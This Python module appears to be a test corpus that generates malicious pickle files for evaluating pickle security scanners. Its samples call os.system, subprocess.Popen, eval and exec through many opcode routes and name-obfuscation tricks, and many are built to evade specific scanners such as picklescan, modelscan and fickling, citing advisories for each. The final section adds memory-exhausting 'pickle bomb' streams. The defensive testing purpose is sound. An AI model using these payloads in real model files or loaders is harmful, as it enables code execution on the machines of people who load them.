"""Ways to make an unpickler act: every opcode that can, and every way to make a reader look elsewhere."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Iterator
from typing import Any

from tests.corpus import COMMAND, SOURCE, Sample
from tests.corpus.assembler import (
    EXEC,
    PAYLOAD,
    SYSTEM,
    built,
    call,
    made,
    named,
    pickled,
    proto,
    push,
    short,
    stacked,
    text,
)


class Payload:
    def __init__(self, function: Any, *arguments: Any) -> None:
        self.reduced = function, arguments

    def __reduce__(self) -> Any:
        return self.reduced


def standard(protocol: int) -> bytes:
    import os

    return pickle.dumps(Payload(os.system, COMMAND), protocol)


def samples() -> Iterator[Sample]:
    def sample(
        name: str, content: bytes, why: str, *, attack: str = "pickle route", loader: str | None = "pickle"
    ) -> Sample:
        return Sample(
            name=f"pickle: {name}", attack=attack, why=why, make=lambda: content, filename="model.pkl", loader=loader
        )

    for protocol in range(6):
        yield sample(
            f"reduce, protocol {protocol}", standard(protocol), "os.system by REDUCE as pickle itself writes it"
        )
    line = COMMAND.encode()
    module = named("os", "system")
    yield sample("INST", b"(S'" + line + b"'\nios\nsystem\n.", "INST calls without REDUCE")
    yield sample("INST, positional", b"(V" + line + b"\niposix\nsystem\n.", "INST with a unicode argument")
    yield sample("OBJ", b"(cos\nsystem\nS'" + line + b"'\no.", "OBJ calls without REDUCE; fickling #108 used pty.spawn")
    yield sample(
        "NEWOBJ",
        pickled(made(named("subprocess", "Popen"), ["touch", COMMAND.split()[1]])),
        "NEWOBJ of a class whose construction acts; cls.__new__ alone does not",
        loader=None,
    )
    yield sample(
        "NEWOBJ_EX",
        pickled(named("subprocess", "Popen") + push(([*COMMAND.split()],)) + push({"shell": False}) + b"\x92", 4),
        "NEWOBJ_EX with keyword arguments",
        loader=None,
    )
    yield sample(
        "NEWOBJ into a call",
        pickled(
            named("builtins", "map")
            + push((named("os", "system"), [COMMAND]))
            + b"\x81"
            + b"0"
            + named("builtins", "list")
            + made(named("builtins", "map"), named("os", "system"), [COMMAND])
            + b"\x85R"
        ),
        "builtins.map made by NEWOBJ, consumed by list",
    )
    yield sample(
        "BUILD on a fresh object",
        pickled(built(built(made(named("collections", "OrderedDict")), {"__setstate__": module}), COMMAND)),
        "__setstate__ put into the instance by one BUILD, called by the next",
    )
    yield sample(
        "APPEND to an object",
        pickled(built(made(named("argparse", "Namespace")), {"append": module}) + push(COMMAND) + b"a"),
        "APPEND calls the attribute append, which is os.system",
    )
    yield sample(
        "APPENDS to an object",
        pickled(built(made(named("types", "SimpleNamespace")), {"append": module}) + b"(" + push(COMMAND) + b"e"),
        "APPENDS calls append for each",
        loader="pickle",
    )
    yield sample(
        "ADDITEMS to an object",
        pickled(built(made(named("types", "SimpleNamespace")), {"add": module}) + b"(" + push(COMMAND) + b"\x90", 4),
        "ADDITEMS calls the attribute add",
    )
    yield sample(
        "SETITEM on a factory",
        pickled(call(named("collections", "defaultdict"), module) + push("key") + push("x") + b"s"),
        "a defaultdict whose factory is os.system",
        loader=None,
    )
    yield sample(
        "EXT1",
        proto(2) + b"\x82\x01(" + text(COMMAND) + b"tR.",
        "an extension code means whatever the loader registered",
        loader=None,
    )
    yield sample(
        "EXT4 after add_extension",
        pickled(
            call(named("copyreg", "add_extension"), "os", "system", 0x7FFF0000)
            + b"0\x84"
            + struct.pack("<L", 0x7FFF0000)
            + push((COMMAND,))
            + b"R",
            2,
        ),
        "copyreg.add_extension in the pickle itself, then EXT4",
    )
    yield sample(
        "persistent id, binary",
        proto(2) + text("touch") + b"Q.",
        "BINPERSID hands foreign data to persistent_load",
        loader=None,
    )
    yield sample(
        "persistent id, text", b"\x80\x02Ptouch\n.", "PERSID hands foreign data to persistent_load", loader=None
    )
    yield sample(
        "persistent id holding a call",
        proto(2) + push(("storage", SYSTEM, "0", "cpu", 1)) + b"Q.",
        "the payload runs while the id is built",
        loader="pickle",
    )
    # names
    yield sample("STACK_GLOBAL", pickled(call(stacked("os", "system"), COMMAND)), "names by STACK_GLOBAL")
    yield sample(
        "names out of the memo",
        b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x940h\x00h\x01\x93" + short(COMMAND) + b"\x85R.",
        "BINGET for both names; picklescan #22 reads the wrong memo cell",
    )
    yield sample(
        "memo cells written out of order",
        b"\x80\x04"
        + short("os")
        + b"q\x07"
        + short("collections")
        + b"q\x00"
        + short("system")
        + b"q\x01"
        + b"000"
        + b"h\x07h\x01\x93"
        + push((COMMAND,))
        + b"R.",
        "a reader that numbers memo cells itself sees collections.system",
    )
    yield sample(
        "memo cell overwritten",
        b"\x80\x04"
        + short("collections")
        + b"q\x00"
        + b"0"
        + short("os")
        + b"q\x000h\x00"
        + short("system")
        + b"\x93"
        + push((COMMAND,))
        + b"R.",
        "GHSA-9gvj-pp9x-gcfr: the first value of a memo cell is not the last",
    )
    yield sample(
        "memo from LONG_BINPUT",
        b"\x80\x02"
        + text("os")
        + b"r\x00\x01\x00\x000"
        + b"\x80\x04j\x00\x01\x00\x00"
        + text("system")
        + b"\x93"
        + push((COMMAND,))
        + b"R.",
        "a second PROTO in the middle and LONG_BINGET",
    )
    yield sample(
        "memo from text PUT",
        b"\x80\x04Vos\np300\n0Vsystem\np301\n0g300\ng301\n\x93(V" + line + b"\ntR.",
        "text PUT and GET",
    )
    yield sample(
        "name with an escape",
        b"\x80\x04V\\u006fs\nV\\u0073ystem\n\x93(V" + line + b"\ntR.",
        "raw-unicode-escape decodes to os.system",
    )
    yield sample(
        "name from a quoted string",
        b"\x80\x04S'\\x6f\\x73'\nS'\\x73ystem'\n\x93(V" + line + b"\ntR.",
        "string escapes decode to os.system",
        loader="pickle",
    )
    yield sample(
        "name from a short string",
        b"\x80\x04U\x02osU\x06system\x93" + push((COMMAND,)) + b"R.",
        "SHORT_BINSTRING as name; modelscan #338",
    )
    yield sample(
        "name from a frame",
        b"\x80\x04\x95\x30\x00\x00\x00\x00\x00\x00\x00"
        + (stacked("os", "system") + push((COMMAND,)) + b"R.")[:0x30].ljust(0x30)
        + b"",
        "a frame cut by force",
        loader=None,
    )
    yield sample(
        "name concatenated",
        pickled(
            call(
                call(
                    named("builtins", "getattr"),
                    call(named("builtins", "__import__"), call(named("operator", "concat"), "o", "s")),
                    call(named("operator", "concat"), "sys", "tem"),
                ),
                COMMAND,
            )
        ),
        "the name exists only at load time",
    )
    yield sample(
        "name joined",
        pickled(
            call(
                call(
                    named("builtins", "getattr"),
                    call(
                        named("importlib", "import_module"),
                        call(call(named("builtins", "getattr"), "", "join"), ["o", "s"]),
                    ),
                    "system",
                ),
                COMMAND,
            )
        ),
        "str.join makes the name",
    )
    yield sample(
        "computed name for STACK_GLOBAL",
        pickled(call(named("builtins", "str"), "os") + short("system") + b"\x93" + push((COMMAND,)) + b"R"),
        "STACK_GLOBAL's module is the result of a call",
    )
    yield sample(
        "dotted name",
        pickled(call(stacked("torch", "os.system"), COMMAND)),
        "a module everyone allows, an attribute path out of it",
    )
    yield sample(
        "dotted GLOBAL",
        pickled(call(named("torch.serialization", "os.system"), COMMAND)),
        "protocol 4 resolves dots in GLOBAL too",
    )
    yield sample(
        "dotted through a class",
        pickled(call(stacked("collections", "OrderedDict.__init__.__class__.__subclasses__"))),
        "a path through a slot wrapper",
        loader=None,
    )
    yield sample(
        "dotted to sys.modules",
        pickled(
            call(
                call(named("builtins", "getattr"), call(stacked("collections", "_sys.modules.get"), "os"), "system"),
                COMMAND,
            )
        ),
        "modules inside allowed modules",
    )
    yield sample(
        "module as a global",
        pickled(call(call(named("builtins", "getattr"), stacked("torch", "os"), "system"), COMMAND)),
        "an allowed module's attribute is the module os",
    )
    yield sample(
        "Python 2 name",
        pickled(call(named("__builtin__", "eval"), SOURCE.replace(".close()", "")), 2),
        "protocol 2 maps __builtin__ to builtins",
    )
    yield sample(
        "Python 2 module", pickled(call(named("commands", "getoutput"), COMMAND), 2), "commands is mapped to subprocess"
    )
    yield sample(
        "Python 2 reduce",
        pickled(call(named("__builtin__", "reduce"), named("os", "system"), [COMMAND], COMMAND), 2),
        "__builtin__.reduce is functools.reduce",
        loader=None,
    )
    yield sample(
        "Python 2 apply",
        pickled(call(named("__builtin__", "apply"), named("os", "system"), (COMMAND,)), 1),
        "apply existed only in Python 2",
        loader=None,
    )
    yield sample(
        "Python 2 imap",
        pickled(call(named("builtins", "list"), call(named("itertools", "imap"), named("os", "system"), [COMMAND])), 2),
        "itertools.imap is mapped to map",
    )
    yield sample(
        "Python 2 urlopen",
        pickled(call(named("urllib", "urlopen"), "file:///etc/hostname"), 2),
        "urllib.urlopen is mapped to urllib.request",
        loader=None,
    )
    yield sample("module with spaces", b"c os \nsystem\n(V" + line + b"\ntR.", "a name nobody can import", loader=None)
    yield sample(
        "bytes as name",
        b"\x80\x04C\x02osC\x06system\x93" + push((COMMAND,)) + b"R.",
        "modelscan #338: bytes on the stack of STACK_GLOBAL",
        loader=None,
    )
    yield sample(
        "number as name, after the payload",
        b"\x80\x04" + SYSTEM + b"0K\x2a" + short("os") + b"\x93.",
        "modelscan #338 5b: the scanner stops, the payload has run",
    )
    yield sample(
        "bytearray as name, after the payload",
        b"\x80\x05" + SYSTEM + b"0" + short("os") + b"\x96\x06\x00\x00\x00\x00\x00\x00\x00system\x93.",
        "modelscan #338 5c: unhashable name",
    )
    yield sample(
        "numpy.__builtins__ through size",
        pickled(
            b"cnumpy\nsize\nq\x010cnumpy\n__builtins__\nq\x020h\x01}"
            + push({"shape": b"h\x02"})
            + b"\x86b0h\x01h\x01"
            + push("eval")
            + b"\x86R"
            + push((SOURCE,))
            + b"R"
        ),
        "modelscan #330: numpy.size(numpy.size, 'eval') with shape set to the builtins",
        loader=None,
    )
    # after the payload
    yield sample(
        "broken after the payload",
        b"\x80\x02" + SYSTEM + b"\xff\xff\xff",
        "nullifAI: runs, then fails; the scanner only fails",
    )
    yield sample("cut after the payload", b"\x80\x02" + SYSTEM, "no STOP: the payload has run")
    yield sample(
        "stack underflow after the payload",
        b"\x80\x02" + SYSTEM + b"000000.",
        "POP from an empty stack after the payload",
    )
    yield sample(
        "missing memo after the payload", b"\x80\x02" + SYSTEM + b"h\x63.", "GET of an unwritten cell after the payload"
    )
    yield sample(
        "result thrown away",
        pickled(SYSTEM + b"0" + push({"weights": [1.0]})),
        "GHSA: a call whose result is popped vanishes from fickling's tree",
    )
    yield sample("result marked away", pickled(b"(" + SYSTEM + b"1" + push([1])), "POP_MARK throws the result away")
    yield sample(
        "result as unused item",
        pickled(push({"weights": [1.0, 2.0]}) + b"q\x01" + SYSTEM + b"0h\x01"),
        "looks like a state dict",
    )
    yield sample("invalid opcode that only some know", b"\x80\x02" + SYSTEM + b"\x98.", "an opcode of no protocol")
    yield sample("line without end", b"\x80\x02" + SYSTEM + b"Vabc", "a text argument that never ends")
    yield sample(
        "length beyond the end",
        b"\x80\x04" + SYSTEM + b"0\x8e" + b"\xff" * 7 + b"\x7f",
        "BINBYTES8 of nine exabytes after the payload",
    )
    yield sample(
        "frame beyond the end",
        b"\x80\x04\x95\xff\xff\x00\x00\x00\x00\x00\x00" + SYSTEM + b".",
        "a frame longer than the file",
        loader=None,
    )
    yield sample(
        "frame in the middle of an opcode",
        b"\x80\x04" + b"\x95\x03\x00\x00\x00\x00\x00\x00\x00" + short("o") + SYSTEM + b".",
        "opcodes behind the frame's end",
    )
    yield sample("unknown protocol", b"\x80\x63" + SYSTEM + b".", "a protocol that does not exist", loader=None)
    # where it hides
    yield sample(
        "second pickle", pickle.dumps([1]) + PAYLOAD, "a loader that calls load twice runs the second", loader="pickles"
    )
    yield sample("tenth pickle", pickle.dumps({"a": 1}) * 9 + PAYLOAD, "readers that stop after some", loader="pickles")
    yield sample(
        "second pickle behind zeros", pickle.dumps([1]) + bytes(64) + PAYLOAD, "padding between pickles", loader=None
    )
    yield sample(
        "inside bytes",
        pickle.dumps({"weights": PAYLOAD}),
        "a pickle in a bytes value, loaded by the next pickle.loads",
        loader=None,
    )
    yield sample(
        "inside bytes, loaded",
        pickled(call(named("pickle", "loads"), bytearray(PAYLOAD))),
        "GHSA-84r2-jw7c-4r5q: pickle.loads of a pickle",
        loader="pickle",
    )
    yield sample("inside bytes, twice", pickle.dumps(pickle.dumps(PAYLOAD)), "two coats", loader=None)
    yield sample(
        "encoded by _codecs",
        pickled(call(named("_pickle", "loads"), call(named("_codecs", "encode"), PAYLOAD.decode("latin1"), "latin1"))),
        "picklescan #24: bytes as protocol 2 writes them",
        loader="pickle",
    )
    yield sample(
        "compressed inside",
        pickled(
            call(
                named("pickle", "loads"),
                call(named("zlib", "decompress"), bytearray(__import__("zlib").compress(PAYLOAD))),
            )
        ),
        "modelscan #338 6: zlib.decompress hides it",
        loader="pickle",
    )
    yield sample(
        "letters only",
        b"cposix\nsystem\n(V" + line + b"\ntR.\n# a configuration file\n",
        "a text file to every sniffer",
        loader="pickle",
    )
    yield sample("behind comment bytes", b"(t0" * 50 + SYSTEM + b".", "stack noise first")
    yield sample(
        "behind many frames",
        b"\x80\x04" + b"\x95\x02\x00\x00\x00\x00\x00\x00\x00N0" * 200 + SYSTEM + b".",
        "two hundred frames first",
    )
    yield sample(
        "behind a megabyte",
        b"\x80\x04B\x00\x00\x10\x00" + bytes(1 << 20) + b"0" + SYSTEM + b".",
        "beyond the first blocks a scanner samples",
    )
    yield sample(
        "deep recursion first",
        b"\x80\x02" + b"]" * 3000 + b"a" * 2999 + b"0" + SYSTEM + b".",
        "a reader that recurses dies first",
    )
    yield sample(
        "attributes of a function",
        pickled(built(named("collections", "namedtuple"), (None, {"__code__": SYSTEM}))),
        "BUILD sets attributes on a function",
        loader="pickle",
    )
    yield sample(
        "attributes of a class",
        pickled(
            built(named("sklearn.linear_model._base", "LinearRegression"), (None, {"predict": named("os", "system")}))
        ),
        "BUILD patches a class for the whole process",
        loader=None,
    )
    yield sample(
        "attributes of an allowed class",
        pickled(built(named("torch.nn.modules.linear", "Linear"), (None, {"forward": named("torch", "load")}))),
        "BUILD patches torch.nn.Linear",
        loader=None,
    )
    yield sample(
        "attributes of a module",
        pickled(built(named("collections", "abc"), {"Mapping": 1})),
        "BUILD writes into a module's dictionary",
        loader=None,
    )
    yield sample(
        "call of a result",
        pickled(
            call(call(named("operator", "attrgetter"), "system"), call(named("importlib", "import_module"), "os"))
            + push((COMMAND,))
            + b"R"
        ),
        "GHSA-m273-6v24-x4m4: attrgetter",
    )
    yield sample(
        "method of a result",
        pickled(
            call(
                call(named("operator", "methodcaller"), "system", COMMAND), call(named("builtins", "__import__"), "os")
            )
        ),
        "GHSA-955r-x9j8-7rhh: methodcaller",
    )
    yield sample(
        "class by copyreg",
        pickled(
            call(named("copyreg", "_reconstructor"), named("subprocess", "Popen"), named("builtins", "object"), None)
        ),
        "a class of choice without its constructor",
        loader=None,
    )
    yield sample(
        "class by copyreg newobj",
        pickled(
            call(named("copyreg", "__newobj__"), named("builtins", "map"), named("os", "system"), [COMMAND])
            + b"q\x010"
            + call(named("builtins", "list"), b"h\x01")
        ),
        "copyreg.__newobj__ is NEWOBJ under another name",
    )
    yield sample(
        "exec inside a tuple in a dict", pickled(push({"state_dict": {"w": (1, 2, EXEC)}})), "deep inside plain data"
    )
    # bombs and malformed streams
    bomb = {"attack": "pickle bomb", "loader": None}
    yield sample(
        "memo index of two billion", b"\x80\x02]r\xff\xff\xff\x7f.", "the C unpickler allocates the memo table", **bomb
    )  # type: ignore[arg-type]
    yield sample(
        "billion laughs",
        b"\x80\x04"
        + b"".join(
            b"]" + b"\x94" + (b"(" + b"".join(b"h" + bytes([i - 1]) for _ in range(10)) + b"e" if i else b"")
            for i in range(60)
        )
        + b".",
        "sixty lists of ten references each",
        **bomb,
    )  # type: ignore[arg-type]
    yield sample(
        "huge bytearray", pickled(call(named("builtins", "bytearray"), 1 << 40)), "a terabyte by one call", **bomb
    )  # type: ignore[arg-type]
    yield sample(
        "huge range in a list",
        pickled(call(named("builtins", "list"), call(named("builtins", "range"), 1 << 40))),
        "a list of a range",
        **bomb,
    )  # type: ignore[arg-type]
    yield sample("huge number", b"\x80\x02\x8b\xff\xff\xff\x7f" + bytes(100) + b".", "LONG4 of two gigabytes", **bomb)  # type: ignore[arg-type]
    yield sample(
        "number of a million digits",
        b"\x80\x02I" + b"9" * 1_000_000 + b"\n.",
        "quadratic conversion of decimal text",
        **bomb,
    )  # type: ignore[arg-type]
    yield sample("negative lengths", b"\x80\x02\x8b\xff\xff\xff\xff.", "a negative LONG4", **bomb)  # type: ignore[arg-type]
    yield sample("marks without end", b"\x80\x02" + b"(" * 2_000_000 + b".", "two million marks", **bomb)  # type: ignore[arg-type]
    yield sample("no value", b"\x80\x02.", "STOP on an empty stack", **bomb)  # type: ignore[arg-type]
    yield sample("values left over", b"\x80\x02" + push([1]) + push([2]) + b".", "more than one value at STOP", **bomb)  # type: ignore[arg-type]
    yield sample("prefix of a frame only", b"\x80\x04\x95", "nothing but a beginning", **bomb)  # type: ignore[arg-type]
    yield sample(
        "numpy array of a petabyte",
        pickled(
            call(named("numpy.core.multiarray", "_reconstruct"), named("numpy", "ndarray"), (1 << 50,), bytearray(b"b"))
        ),
        "_reconstruct allocates what it is told",
        **bomb,
    )  # type: ignore[arg-type]
    yield sample(
        "numpy array from a pointer",
        pickled(call(named("numpy", "ndarray"), (1 << 30,), "u1", bytearray(b"abc"), 1 << 20)),
        "a view beyond its buffer",
        **bomb,
    )  # type: ignore[arg-type]
    yield sample(
        "dtype with fields outside of it",
        pickled(
            call(
                named("numpy", "ndarray"),
                (4,),
                built(
                    call(named("numpy", "dtype"), "V4", False, True),
                    (3, "|", None, ("a",), {"a": (call(named("numpy", "dtype"), "f8"), 1 << 30)}, 4, 1, 16),
                ),
            )
        ),
        "a field that lies outside its item",
        **bomb,
    )  # type: ignore[arg-type]
